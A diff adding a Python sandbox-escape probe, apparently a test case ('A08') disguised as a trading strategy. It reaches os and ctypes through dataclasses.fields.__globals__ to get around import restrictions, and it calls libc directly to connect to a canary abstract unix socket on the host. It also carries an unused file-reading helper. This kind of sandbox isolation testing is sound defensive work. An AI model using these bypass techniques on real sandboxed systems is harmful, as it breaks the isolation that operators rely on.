@@ -1,0 +1,43 @@
+# ruff: noqa
+"""A08: connect to an abstract unix socket of the host"""
+
+import dataclasses
+
+import numpy as np
+import polars as pl
+from pydantic import BaseModel
+
+STRATEGY_ID = "attack"
+VERSION = 1
+WARMUP_BARS = 0
+
+
+class Params(BaseModel):
+    pass
+
+
+def _os():
+    return dataclasses.fields.__globals__["sys"].modules["os"]
+
+
+def _read(path):
+    os = _os()
+    fd = os.open(path, os.O_RDONLY)
+    try:
+        return os.read(fd, 65536).decode("utf-8", "replace")
+    finally:
+        os.close(fd)
+
+
+def _libc():
+    ctypes = dataclasses.fields.__globals__["sys"].modules["ctypes"]
+    return ctypes, ctypes.CDLL(None, use_errno=True)
+
+
+def generate(bars, params):
+    ctypes, libc = _libc()
+    s = libc.socket(1, 1, 0)
+    name = b"\0" + b"@@CANARY_ABSTRACT@@"
+    addr = bytes([1, 0]) + name
+    rc = libc.connect(s, addr, len(addr))
+    raise RuntimeError(("CONN" "ECTED " if rc == 0 else "connect errno ") + str(ctypes.get_errno()))
